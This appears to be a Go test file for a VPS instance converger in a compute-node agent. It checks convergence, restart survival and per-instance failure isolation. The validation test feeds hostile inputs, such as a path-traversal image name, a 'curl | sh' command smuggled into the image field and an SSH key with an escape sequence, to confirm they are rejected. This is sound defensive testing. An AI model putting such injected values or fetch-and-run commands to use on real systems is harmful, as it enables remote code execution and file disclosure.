package converge_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/bettercompute/bettercompute/agent/converge"
	"github.com/bettercompute/bettercompute/agent/vps"
	"github.com/bettercompute/bettercompute/agent/vps/sim"
	agentv1 "github.com/bettercompute/bettercompute/proto/bettercompute/agent/v1"
)

// vpsNode is a converger with a simulated VPS runtime; root holds both, so
// a second vpsNode over the same root is the daemon restarted.
type vpsNode struct {
	c  *converge.Converger
	rt *sim.Runtime
}

func newVPSNode(t *testing.T, root string) vpsNode {
	t.Helper()
	rt, err := sim.New(sim.Config{Dir: filepath.Join(root, "vps"), StopTimeout: 20 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		obs, _ := rt.List(context.Background())
		for _, o := range obs {
			_ = rt.Delete(context.Background(), o.ID)
		}
	})
	rec, err := vps.NewReconciler(vps.Config{Runtime: rt, GPUs: func(context.Context) (map[string]string, error) {
		return map[string]string{"GPU-a": "0000:18:00.0", "GPU-b": "0000:2a:00.0"}, nil
	}})
	if err != nil {
		t.Fatal(err)
	}
	c, err := converge.New(converge.Config{Root: root, NodeID: "node_1", VPS: rec, GPUs: func(context.Context) ([]string, error) {
		return []string{"GPU-a", "GPU-b"}, nil
	}})
	if err != nil {
		t.Fatal(err)
	}
	return vpsNode{c: c, rt: rt}
}

func instanceSpec(gen int64, in ...*agentv1.Instance) *agentv1.DesiredState {
	return &agentv1.DesiredState{Generation: gen, Spec: &agentv1.NodeSpec{
		Identity: &agentv1.NodeIdentity{NodeId: "node_1"}, Instances: &agentv1.Instances{Instances: in}}}
}

func inst(id, state string, vcpus uint32, gen int64) *agentv1.Instance {
	return &agentv1.Instance{Id: id, Image: "ubuntu-24.04.qcow2", Vcpus: vcpus, MemoryBytes: 1 << 30, DiskGib: 10, State: state,
		Generation: gen, Hostname: "web", SshAuthorizedKeys: []string{"ssh-ed25519 AAAAkey t@h"}}
}

func section(t *testing.T, ss []*agentv1.SectionStatus) *agentv1.SectionStatus {
	t.Helper()
	s := states(ss)["instances"]
	if s == nil {
		t.Fatalf("no instances section in %v", ss)
	}
	return s
}

func instStatus(s *agentv1.SectionStatus) map[string]*agentv1.InstanceStatus {
	m := map[string]*agentv1.InstanceStatus{}
	for _, i := range s.GetInstances() {
		m[i.GetId()] = i
	}
	return m
}

func TestInstances_ConvergeReportAndSurviveRestart(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	n := newVPSNode(t, root)
	ctx := context.Background()
	ds := instanceSpec(1, inst("inst_a", "running", 2, 1), func() *agentv1.Instance {
		i := inst("inst_b", "stopped", 1, 1)
		i.GpuUuids = []string{"GPU-b"}
		return i
	}())
	ss, obs := n.c.Converge(ctx, ds)
	s := section(t, ss)
	if obs != 1 || s.GetState() != agentv1.SectionState_SECTION_STATE_CONVERGED {
		t.Fatalf("observed %d, section %v", obs, s)
	}
	st := instStatus(s)
	if a := st["inst_a"]; a.GetState() != "running" || a.GetVcpus() != 2 || a.GetMemoryBytes() != 1<<30 || a.GetDiskGib() != 10 || a.GetGeneration() != 1 {
		t.Errorf("inst_a %v", a)
	}
	if b := st["inst_b"]; b.GetState() != "stopped" || len(b.GetGpuPciAddresses()) != 1 || b.GetGpuPciAddresses()[0] != "0000:2a:00.0" {
		t.Errorf("inst_b %v", b)
	}
	pid, ok := n.rt.PID("inst_a")
	if !ok {
		t.Fatal("inst_a has no process")
	}

	t.Run("a restarted daemon re-applies the spec and re-creates nothing", func(t *testing.T) {
		n2 := newVPSNode(t, root) // New resumes the persisted desired state
		if p, ok := n2.rt.PID("inst_a"); !ok || p != pid {
			t.Fatalf("pid %d (%v) after the restart, was %d", p, ok, pid)
		}
		ss, obs := n2.c.Converge(ctx, ds)
		if s := section(t, ss); obs != 1 || s.GetState() != agentv1.SectionState_SECTION_STATE_CONVERGED || instStatus(s)["inst_a"].GetState() != "running" {
			t.Fatalf("%v", s)
		}
		if p, _ := n2.rt.PID("inst_a"); p != pid {
			t.Errorf("pid %d, was %d: re-created", p, pid)
		}
		n = n2
	})
	t.Run("stop, start and delete through desired state", func(t *testing.T) {
		ss, obs := n.c.Converge(ctx, instanceSpec(2, inst("inst_a", "stopped", 2, 2)))
		s := section(t, ss)
		if obs != 2 || instStatus(s)["inst_a"].GetState() != "stopped" || len(s.GetInstances()) != 1 {
			t.Fatalf("%v", s)
		}
		if _, err := os.Stat(n.rt.Dir("inst_b")); !os.IsNotExist(err) {
			t.Errorf("inst_b left out of the spec was not deleted: %v", err)
		}
		ss, _ = n.c.Converge(ctx, instanceSpec(3, inst("inst_a", "running", 4, 3)))
		if st := instStatus(section(t, ss))["inst_a"]; st.GetState() != "running" || st.GetVcpus() != 4 || st.GetGeneration() != 3 {
			t.Fatalf("%v", st)
		}
		ss, obs = n.c.Converge(ctx, instanceSpec(4))
		if s := section(t, ss); obs != 4 || len(s.GetInstances()) != 0 || s.GetReason() != "runs no instances" {
			t.Fatalf("%v", s)
		}
		if l, _ := n.rt.List(ctx); len(l) != 0 {
			t.Errorf("left %v", l)
		}
	})
}

// TestBadInstanceFailsAloneOnTheHost: the instances section holds
// instances of several tenants, and one tenant's bad instance (an image
// like ../../../etc/passwd, an SSH key with a tab, a bad state) failed the
// whole section, so the host's other instances stopped starting, stopping
// and being deleted until it was removed. Now the bad instance fails
// alone: reported failed with its reason at its generation, neither
// applied nor deleted, while the others converge and the section stays
// CONVERGED (so the control plane reads its report as complete).
func TestBadInstanceFailsAloneOnTheHost(t *testing.T) {
	t.Parallel()
	n := newVPSNode(t, t.TempDir())
	ctx := context.Background()
	if _, obs := n.c.Converge(ctx, instanceSpec(1, inst("inst_a", "running", 1, 1), inst("inst_old", "running", 1, 1))); obs != 1 {
		t.Fatal("not converged")
	}
	gen := int64(1)
	for name, spoil := range map[string]func(*agentv1.Instance){
		"an image path":            func(i *agentv1.Instance) { i.Image = "../../../etc/passwd" },
		"a shell command as image": func(i *agentv1.Instance) { i.Image = "ubuntu; curl http://x | sh" },
		"a 300-character image":    func(i *agentv1.Instance) { i.Image = strings.Repeat("u", 300) },
		"an SSH key with a tab":    func(i *agentv1.Instance) { i.SshAuthorizedKeys = []string{"ssh-ed25519\tAAAAkey t@h"} },
		"an SSH key with ESC":      func(i *agentv1.Instance) { i.SshAuthorizedKeys = []string{"ssh-ed25519 AAAAkey \x1b[2J"} },
		"a bad state and size":     func(i *agentv1.Instance) { i.State, i.Vcpus, i.MemoryBytes = "paused", 0, 1000 },
	} {
		t.Run(name, func(t *testing.T) {
			bad := inst("inst_bad", "running", 1, 1)
			spoil(bad)
			// Another tenant stops inst_a and deletes inst_old while the
			// bad instance is in the section.
			gen++
			ss, obs := n.c.Converge(ctx, instanceSpec(gen, inst("inst_a", "stopped", 1, 2), bad))
			s := section(t, ss)
			st := instStatus(s)
			if obs != gen || s.GetState() != agentv1.SectionState_SECTION_STATE_CONVERGED {
				t.Fatalf("observed %d, section %v", obs, s)
			}
			if a := st["inst_a"]; a.GetState() != "stopped" || a.GetGeneration() != 2 {
				t.Errorf("the good instance did not proceed: %v", a)
			}
			if b := st["inst_bad"]; b.GetState() != "failed" || !strings.HasPrefix(b.GetReason(), "invalid: instances[inst_bad].") || b.GetGeneration() != 1 {
				t.Errorf("the bad instance: %v", b)
			}
			if _, ok := n.rt.PID("inst_bad"); ok {
				t.Error("the bad instance was started")
			}
			if l, _ := n.rt.List(ctx); len(l) != 1 || l[0].ID != "inst_a" {
				t.Errorf("runtime has %v, want inst_a alone (inst_old deleted, inst_bad never made)", l)
			}
			// Back to where we were, for the next case.
			gen++
			if _, obs := n.c.Converge(ctx, instanceSpec(gen, inst("inst_a", "running", 1, 1), inst("inst_old", "running", 1, 1))); obs != gen {
				t.Fatal("not converged")
			}
		})
	}
	t.Run("an instance whose spec turns invalid is kept, not deleted", func(t *testing.T) {
		bad := inst("inst_old", "running", 1, 4)
		bad.Image = "../x"
		gen++
		ss, _ := n.c.Converge(ctx, instanceSpec(gen, inst("inst_a", "running", 1, 1), bad))
		if st := instStatus(section(t, ss))["inst_old"]; st.GetState() != "failed" {
			t.Errorf("%v", st)
		}
		if l, _ := n.rt.List(ctx); len(l) != 2 {
			t.Errorf("inst_old was deleted for an invalid spec: runtime has %v", l)
		}
	})
	t.Run("a section over the host's bounds fails as a whole and changes nothing", func(t *testing.T) {
		var many []*agentv1.Instance
		for i := range vps.MaxInstances + 1 {
			many = append(many, inst(fmt.Sprintf("inst_m%d", i), "running", 1, 1))
		}
		ss, _ := n.c.Converge(ctx, instanceSpec(gen+1, many...))
		if s := section(t, ss); s.GetState() != agentv1.SectionState_SECTION_STATE_FAILED_TERMINAL || !strings.Contains(s.GetReason(), "at most 256") {
			t.Fatalf("%v", s)
		}
		if _, ok := n.rt.PID("inst_a"); !ok {
			t.Error("an invalid section deleted inst_a")
		}
	})
}

func TestInstances_FailureIsRetriedAndReported(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	n := newVPSNode(t, root)
	ctx := context.Background()
	if err := os.WriteFile(filepath.Join(root, "vps", sim.FailFile), []byte("image ubuntu-24.04.qcow2 is corrupt"), 0o644); err != nil {
		t.Fatal(err)
	}
	ss, obs := n.c.Converge(ctx, instanceSpec(1, inst("inst_a", "running", 1, 1)))
	s := section(t, ss)
	st := instStatus(s)["inst_a"]
	// The instance fails alone (the section converged, its report is
	// complete); the next converge retries it.
	if obs != 1 || s.GetState() != agentv1.SectionState_SECTION_STATE_CONVERGED || st.GetState() != "failed" ||
		st.GetReason() != "image ubuntu-24.04.qcow2 is corrupt" {
		t.Fatalf("observed %d, %v", obs, s)
	}
	_ = os.Remove(filepath.Join(root, "vps", sim.FailFile))
	ss, obs = n.c.Converge(ctx, instanceSpec(1, inst("inst_a", "running", 1, 1)))
	if s := section(t, ss); obs != 1 || instStatus(s)["inst_a"].GetState() != "running" {
		t.Fatalf("observed %d, %v", obs, s)
	}
}

func TestInstances_MissingGPUFailsThatInstance(t *testing.T) {
	t.Parallel()
	n := newVPSNode(t, t.TempDir())
	g := inst("inst_g", "running", 1, 1)
	g.GpuUuids = []string{"GPU-nope"}
	ss, obs := n.c.Converge(context.Background(), instanceSpec(1, g, inst("inst_ok", "running", 1, 1)))
	s := section(t, ss)
	st := instStatus(s)
	if obs != 1 || s.GetState() != agentv1.SectionState_SECTION_STATE_CONVERGED || st["inst_g"].GetState() != "failed" ||
		!strings.Contains(st["inst_g"].GetReason(), "GPU-nope") || st["inst_ok"].GetState() != "running" {
		t.Fatalf("%v", s)
	}
}
